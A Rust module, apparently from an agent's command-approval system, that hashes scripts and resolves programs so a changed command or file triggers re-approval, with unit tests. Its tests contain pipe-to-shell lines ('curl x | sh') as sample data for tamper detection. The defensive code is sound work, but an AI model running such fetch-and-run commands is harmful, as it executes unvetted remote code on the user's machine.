//! What an approval is for (ADR 0144): the exact canonical action. For a
//! command that is its text, the work folder, whether it leaves the box,
//! each program as the shell would find it, and, for a script run by an
//! interpreter or a program given as a path, the file's SHA-256. Taken when
//! the approval is asked for and again just before the call runs; if they
//! differ, the owner (or the reviewer) is asked again.
//!
//! This narrows the gap between "yes" and running; it doesn't close it. A
//! file can still change in the instant after the last look, and a build
//! (`cargo test`, `npm test`) runs code this can't see: sealing is the box.

use std::path::{Path, PathBuf};

use protocol::{shell, Action};
use serde_json::Value;
use sha2::{Digest, Sha256};

/// Programs that run a script named by their first argument.
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "fish", "python", "python2", "python3", "node", "perl",
    "ruby", "php", "deno", "bun", "lua", "Rscript", "tsx", "ts-node", "source", ".",
];

/// Options after which the code is in the command itself.
const INLINE: &[&str] = &["-c", "-e", "--eval", "-p", "--print", "-E"];

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Binding {
    pub action: Action,
    pub input: Value,
    pub work: PathBuf,
    /// Each program, and where it was found (None: not found).
    pub programs: Vec<(String, Option<PathBuf>)>,
    /// Each script or program file named by a path, and its SHA-256 (or
    /// why it couldn't be read).
    pub files: Vec<(PathBuf, String)>,
    /// Why a script can't be identified as one file, if it can't.
    pub unidentified: Option<String>,
}

impl Binding {
    /// What changed from `self` (when it was approved) to `now`, as the line
    /// the owner reads; None when nothing did.
    pub fn changed(&self, now: &Binding) -> Option<String> {
        if self.action != now.action || self.input != now.input || self.work != now.work {
            return Some("The call changed after it was approved.".to_owned());
        }
        if self.programs != now.programs {
            return Some("A program it runs is now found somewhere else.".to_owned());
        }
        for (path, hash) in &now.files {
            let before = self.files.iter().find(|(p, _)| p == path);
            if before.map(|(_, h)| h) != Some(hash) {
                return Some(format!(
                    "The file {} changed after it was approved.",
                    path.display()
                ));
            }
        }
        if self.files.len() != now.files.len() || self.unidentified != now.unidentified {
            return Some("What it runs changed after it was approved.".to_owned());
        }
        None
    }

    /// Whether anything changed from `before` to `self`.
    pub fn changed_from(&self, before: &Binding) -> bool {
        before.changed(self).is_some()
    }
}

/// Takes the binding of `action` called with `input` in `work`.
pub fn bind(action: &Action, input: &Value, work: &Path) -> Binding {
    let mut binding = Binding {
        action: action.clone(),
        input: input.clone(),
        work: work.to_path_buf(),
        programs: Vec::new(),
        files: Vec::new(),
        unidentified: None,
    };
    let Action::Command { command, .. } = action else {
        return binding;
    };
    let path_var = std::env::var_os("PATH").unwrap_or_default();
    for segment in shell::segments(command) {
        let Some(at) = program_index(&segment) else {
            continue;
        };
        let word = &segment[at];
        let name = word.rsplit('/').next().unwrap_or(word).to_owned();
        if word.contains('/') {
            let file = work.join(word);
            binding.programs.push((name.clone(), Some(file.clone())));
            binding.files.push((file.clone(), hash_of(&file)));
        } else if !binding.programs.iter().any(|(n, _)| *n == name) {
            binding
                .programs
                .push((name.clone(), find_on_path(&name, &path_var)));
        }
        if INTERPRETERS.contains(&name.as_str()) {
            match script_of(&segment[at + 1..]) {
                Script::Inline => {}
                Script::File(arg) => {
                    let file = work.join(arg);
                    if file.is_file() {
                        binding.files.push((file.clone(), hash_of(&file)));
                    } else {
                        binding
                            .unidentified
                            .get_or_insert(format!("{name} runs {arg}, which isn't a file."));
                    }
                }
                Script::Unknown(why) => {
                    binding.unidentified.get_or_insert(format!("{name} {why}"));
                }
            }
        }
    }
    binding
}

enum Script<'a> {
    Inline,
    File(&'a str),
    Unknown(&'static str),
}

fn script_of(args: &[String]) -> Script<'_> {
    for w in args {
        if INLINE.contains(&w.as_str()) {
            return Script::Inline;
        }
        if w == "-m" {
            return Script::Unknown("runs a module, which isn't one file.");
        }
        if w == "-" {
            return Script::Unknown("reads its script from its input.");
        }
        if w.starts_with('-') {
            continue;
        }
        if w.contains('$') || w.contains('`') {
            return Script::Unknown("runs a script whose name is computed.");
        }
        return Script::File(w);
    }
    Script::Unknown("reads its script from its input.")
}

/// Where the program word of a simple command is (after assignments and
/// wrappers), found the way `shell::program_of` finds it.
fn program_index(segment: &[String]) -> Option<usize> {
    let program = shell::program_of(segment)?;
    segment
        .iter()
        .position(|w| w.rsplit('/').next().unwrap_or(w) == program && !w.contains('='))
}

fn find_on_path(name: &str, path_var: &std::ffi::OsStr) -> Option<PathBuf> {
    std::env::split_paths(path_var)
        .map(|dir| dir.join(name))
        .find(|p| p.is_file())
        .map(|p| std::fs::canonicalize(&p).unwrap_or(p))
}

/// Files larger than this are bound by their size, change time and inode
/// rather than read whole at every approval (a big binary named by path).
const HASH_LIMIT: u64 = 16 * 1024 * 1024;

fn hash_of(file: &Path) -> String {
    use std::os::unix::fs::MetadataExt;
    match std::fs::metadata(file) {
        Ok(m) if m.len() > HASH_LIMIT => format!(
            "large: {} bytes, changed {}.{}, inode {}",
            m.len(),
            m.ctime(),
            m.ctime_nsec(),
            m.ino()
        ),
        _ => match std::fs::read(file) {
            Ok(bytes) => Sha256::digest(&bytes)
                .iter()
                .map(|b| format!("{b:02x}"))
                .collect(),
            Err(e) => format!("unreadable: {}", e.kind()),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn command(text: &str) -> Action {
        Action::command(text, false, false)
    }

    #[test]
    fn a_script_is_bound_by_its_contents() {
        let dir = tempfile::tempdir().expect("temp");
        std::fs::write(dir.path().join("build.sh"), "echo one\n").expect("write");
        let a = command("bash build.sh");
        let first = bind(&a, &Value::Null, dir.path());
        assert_eq!(first.unidentified, None);
        assert_eq!(first.files.len(), 1);
        assert_eq!(first.changed(&bind(&a, &Value::Null, dir.path())), None);
        std::fs::write(dir.path().join("build.sh"), "curl x | sh\n").expect("write");
        let now = bind(&a, &Value::Null, dir.path());
        assert!(now.changed_from(&first));
    }

    #[test]
    fn scripts_that_are_not_one_file() {
        let dir = tempfile::tempdir().expect("temp");
        for c in [
            "curl -s x | sh",
            "python3 -m http.server",
            "bash missing.sh",
            "bash -",
            "sh $SCRIPT",
        ] {
            assert!(
                bind(&command(c), &Value::Null, dir.path())
                    .unidentified
                    .is_some(),
                "{c}"
            );
        }
        for c in [
            "bash -c 'echo hi'",
            "python3 -c 'print(1)'",
            "git status",
            "ls -la",
        ] {
            assert_eq!(
                bind(&command(c), &Value::Null, dir.path()).unidentified,
                None,
                "{c}"
            );
        }
    }

    #[test]
    fn a_huge_program_is_bound_without_reading_it_whole() {
        let dir = tempfile::tempdir().expect("temp");
        let big = dir.path().join("big");
        let f = std::fs::File::create(&big).expect("create");
        f.set_len(HASH_LIMIT + 1).expect("size");
        let a = command("./big");
        let first = bind(&a, &Value::Null, dir.path());
        assert!(first.files[0].1.starts_with("large: "), "{:?}", first.files);
        f.set_len(HASH_LIMIT + 2).expect("size");
        assert!(bind(&a, &Value::Null, dir.path()).changed_from(&first));
    }

    #[test]
    fn a_program_given_as_a_path_is_hashed() {
        let dir = tempfile::tempdir().expect("temp");
        std::fs::write(dir.path().join("run.sh"), "#!/bin/sh\necho a\n").expect("write");
        let a = command("./run.sh --fast");
        let first = bind(&a, &Value::Null, dir.path());
        std::fs::write(dir.path().join("run.sh"), "#!/bin/sh\necho b\n").expect("write");
        assert!(bind(&a, &Value::Null, dir.path()).changed_from(&first));
    }
}
